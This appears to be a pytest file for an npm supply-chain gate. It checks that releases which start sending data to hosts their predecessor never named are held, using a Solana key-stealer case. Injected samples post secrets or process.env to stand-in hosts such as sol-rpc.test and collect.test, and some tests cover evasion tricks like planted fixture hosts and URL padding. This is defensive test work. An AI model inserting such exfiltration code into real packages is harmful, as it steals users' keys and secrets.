"""A network destination the release before never named (`rules.destinations`): @solana/web3.js
1.95.6 (December 2024) gained no capability, its RPC client always used `fetch`, but its
`addToQueue` sent private keys to a host 1.95.5 never wrote. Rebuilt on a real SDK bundle that
reaches the network (axios 1.7.9's `dist/node/axios.cjs`, tests/npm/fixtures/releases), each
shape beside the controls a good release looks like: a new call to a host it named, a URL in
a comment or a docs string, a URL from a config variable, a new path on the same host."""

from __future__ import annotations

import pytest

from mirrorgate.npm.capabilities import INSTALL, LOAD, release_capabilities
from mirrorgate.npm.js.destinations import HOSTS_PER_FILE
from mirrorgate.npm.js.words import MAX_URLS
from mirrorgate.npm.jsuses import uses_of
from mirrorgate.rules.capabilities import can_gain, verdict
from mirrorgate.rules.destinations import site_of
from tests.npm.test_capabilities import real
from tests.servers.payloads import key_stealer

_BUNDLE = "dist/node/axios.cjs"
_NEW = "load-time code sends to a host the release before never named"


def with_code(code: bytes, release: str = "axios-1.7.9", file: str = _BUNDLE) -> dict[str, bytes]:
    files = real(release)
    files[file] += code
    return files


def judged(code: bytes) -> list[str]:
    old = release_capabilities(real("axios-1.7.9"))
    return verdict(release_capabilities(with_code(code)), old)


def test_the_solana_key_stealer_sends_to_a_new_host_and_is_held() -> None:
    # the attack: a release of a package that always reached the network starts sending
    # to a host it never named; no capability is gained, so only the host says it
    old = release_capabilities(real("axios-1.7.9"))
    new = release_capabilities(with_code(key_stealer()))
    assert new.at_load - old.at_load == frozenset()  # nothing gained: the old rules pass it

    [found] = verdict(new, old)

    assert found.startswith(_NEW)
    lines = with_code(key_stealer())[_BUNDLE].decode().splitlines()
    number = next(index for index, text in enumerate(lines, 1) if "sol-rpc.test" in text)
    assert f"{_BUNDLE}:{number} `fetch('https://sol-rpc.test/api/rpc/queue'" in found
    assert "to sol-rpc.test" in found
    assert "the release before named github.com, localhost, nodejs.org" in found
    assert can_gain(new)  # so the gate reads the release before at all


def test_the_bench_stand_in_on_loopback_is_a_new_host_too() -> None:
    # bench/payloads.py's stand-in sends to 127.0.0.1: loopback is not exempt, a new
    # address is a new destination (axios names `localhost`, not 127.0.0.1)
    found = judged(key_stealer("https://127.0.0.1:9/"))

    assert len(found) == 1
    assert "to 127.0.0.1" in found[0]


@pytest.mark.parametrize("url", [
    "https://github.com/axios/axios/queue",  # a host the predecessor named
    "https://api.github.com/repos/queue",  # a new subdomain of a domain it named
    "http://localhost:8899/",  # loopback by the name it wrote
], ids=["named-host", "named-site", "named-loopback"])
def test_a_new_call_to_a_host_the_predecessor_named_passes(url: str) -> None:
    # control: the same stealer's shape, but to where the package already sent or linked
    assert judged(key_stealer(url)) == []


@pytest.mark.parametrize("code", [
    b"\n// the queue moved to https://sol-rpc.test/api/rpc/queue\n",
    b"\nconst DOCS = 'https://sol-rpc.test/docs';\n"
    b"module.exports.help = () => console.log('see ' + DOCS);\n",
    b"\nconst fail = () => { throw new Error('https://sol-rpc.test/errors'); };\n",
], ids=["comment", "docs-string", "error-message"])
def test_a_url_not_handed_to_a_network_call_passes(code: bytes) -> None:
    # control: a new URL in prose, a docs link or an error message sends nothing
    assert judged(code) == []


@pytest.mark.parametrize("code", [
    b"\nmodule.exports.queue = (config, secret) => fetch(`${config.rpc}/api/rpc/queue`, "
    b"{ headers: { 'x-id': Buffer.from(secret).toString('base64') } });\n",
    b"\nmodule.exports.queue = (secret) => fetch(process.env.RPC_URL + '/queue', "
    b"{ body: secret });\n",
], ids=["config-template", "environment-variable"])
def test_a_url_built_from_a_config_variable_passes(code: bytes) -> None:
    # control: where the host comes from the caller or the environment, the release does
    # not choose it; its user does
    assert judged(code) == []


@pytest.mark.parametrize("code", [
    b"\nconst RPC = 'https://sol-rpc.test/api/rpc/queue';\n"
    b"module.exports.queue = (secret) => fetch(RPC, { body: secret });\n",
    b"\nmodule.exports.queue = (secret, id) => fetch(`https://sol-rpc.test/queue/${id}`, "
    b"{ body: secret });\n",
    b"\nmodule.exports.queue = (secret) => http__default['default'].request("
    b"'https://sol-rpc.test/queue', { method: 'POST' }).end(secret);\n",
    b"\nmodule.exports.queue = (secret) => axios.post('https://sol-rpc.test/queue', secret);\n",
    b"\nmodule.exports.queue = (secret) => new WebSocket('wss://sol-rpc.test/ws').send(secret);\n",
    b"\nmodule.exports.queue = (secret) => https__default['default'].request({ 'hostname': "
    b"'sol-rpc.test', path: '/queue', method: 'POST' }).end(secret);\n",
], ids=["local-const", "template-with-literal-host", "https-request", "client-post",
        "websocket", "request-options"])
def test_a_new_host_written_any_way_a_call_takes_it_is_held(code: bytes) -> None:
    # the attack written the other ways the reading recognises a network call's destination
    [found] = judged(code)

    assert found.startswith(_NEW)
    assert "to sol-rpc.test" in found


def test_a_new_path_on_a_host_the_predecessor_named_passes() -> None:
    # control: a new endpoint of the API the package already talks to
    code = b"\nmodule.exports.queue = (secret) => fetch('https://github.com/api/v2/queue', " \
           b"{ method: 'POST', body: secret });\n"

    assert judged(code) == []


def test_a_package_that_never_reached_the_network_is_judged_by_the_gain_instead() -> None:
    # chalk 5.6.0 never reached the network at load: its first `fetch` is the gain of
    # network, which `gained` judges (with the environment or files beside it), not a
    # destination compared with hosts it had no call to send to
    old = release_capabilities(real("chalk-5.6.0"))
    new = release_capabilities(with_code(key_stealer(), "chalk-5.6.0", "source/index.js"))

    assert not any(item.startswith(_NEW) for item in verdict(new, old))


def test_an_install_script_that_downloads_and_starts_posting_elsewhere_is_held() -> None:
    # esbuild 0.24.0's install.js downloads its binary at install; a release whose install
    # code also posts to a host it never named is held, the download's host beside it
    files = real("esbuild-0.24.0")
    files["install.js"] += (b"\nrequire('https').request('https://collect.test/e', "
                            b"{ method: 'POST' }).end(JSON.stringify(process.env));\n")
    old, new = release_capabilities(real("esbuild-0.24.0")), release_capabilities(files)

    found = [item for item in verdict(new, old) if "never named" in item]

    assert len(found) == 1
    assert found[0].startswith("install-time code sends to a host the release before never "
                               "named: install.js:")
    assert "to collect.test" in found[0]
    assert "registry.invalid" in found[0]
    assert {sent.phase for sent in new.sent} == {INSTALL}


def test_a_shared_host_s_sibling_is_a_new_site() -> None:
    # a host under a suffix where anyone gets one (pages, tunnels, request catchers) is its
    # own site: naming `docs.github.io` never vouches for `thief.github.io`
    assert site_of("thief.github.io") != site_of("docs.github.io")
    assert site_of("api.devnet.solana.com") == site_of("api.mainnet-beta.solana.com")
    assert site_of("api.example.co.uk") == "example.co.uk"
    assert site_of("127.0.0.1") == "127.0.0.1"


def test_the_reading_names_only_calls_in_code() -> None:
    code = (b"// fetch('https://comment.test/x')\n"
            b"const s = \"fetch('https://string.test/x')\";\n"
            b"xhr.open('POST', 'https://xhr.test/collect');\n"
            b"window.open('https://docs.test/page');\n")

    read = uses_of(code)

    assert [destination.host for destination in read.destinations] == ["xhr.test"]
    assert {"comment.test", "string.test", "xhr.test", "docs.test"} <= set(read.hosts)


def test_the_hosts_compared_are_those_of_code_that_runs() -> None:
    # the attack: a host planted in a file nothing runs (a test fixture) the release
    # before, to vouch for the next release's destination; only code that runs vouches
    planted = {"test/fixtures.js": b"const u = 'https://sol-rpc.test/';\n"}
    old = release_capabilities({**real("axios-1.7.9"), **planted})
    new = release_capabilities({**with_code(key_stealer()), **planted})

    assert "sol-rpc.test" not in old.hosts
    assert [sent.phase for sent in new.sent] == [LOAD]
    [found] = verdict(new, old)
    assert "to sol-rpc.test" in found


def test_links_padded_before_a_destination_never_hide_it() -> None:
    # the attack: past the URLs a file's reading looks at, a destination would go unseen;
    # past `MAX_URLS` the file is unread instead, which refuses what runs it
    padding = b"".join(b"// https://link%d.test/\n" % index for index in range(MAX_URLS + 1))

    read = uses_of(padding + b"axios.post('https://sol-rpc.test/queue', secret);\n")

    assert read.unread is not None
    assert "URLs" in read.unread


def test_a_bundle_full_of_links_is_read_whole_below_the_bound() -> None:
    # control: a bundle with thousands of links (an SDK's endpoints, its docs) is read as
    # any other: each host kept up to `HOSTS_PER_FILE`, the destination after them found
    padding = b"".join(b"// https://link%d.test/\n" % index for index in range(5_000))

    read = uses_of(padding + b"axios.post('https://sol-rpc.test/queue', secret);\n")

    assert read.unread is None
    assert [destination.host for destination in read.destinations] == ["sol-rpc.test"]
    assert len(read.hosts) == HOSTS_PER_FILE
